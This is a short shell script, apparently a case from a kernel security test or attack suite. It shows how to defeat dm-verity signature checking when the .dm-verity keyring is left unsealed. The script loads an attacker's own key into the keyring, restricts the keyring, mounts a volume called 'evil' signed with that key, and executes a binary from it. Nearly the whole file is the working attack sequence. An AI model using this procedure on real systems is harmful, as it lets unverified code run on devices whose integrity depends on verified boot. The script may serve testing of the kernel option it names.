# shellcheck shell=sh
#
# key-unsealed - put a key into .dm-verity, restrict it, and run from the dm-verity volume that it signed
#
# Linux 7.0 has this keyring, and leaves it open when dm-verity was loaded with keyring_unsealed=1. It
# vouches for root hashes once it has a key and is restricted. SPDX-License-Identifier: MIT

/attack/addkey /attack/own.der .dm-verity restrict
verity_mount evil /dev/vdb signed /tmp/unsealed
/tmp/unsealed/evil
umount /tmp/unsealed
DM_DISABLE_UDEV=1 veritysetup close unsealed
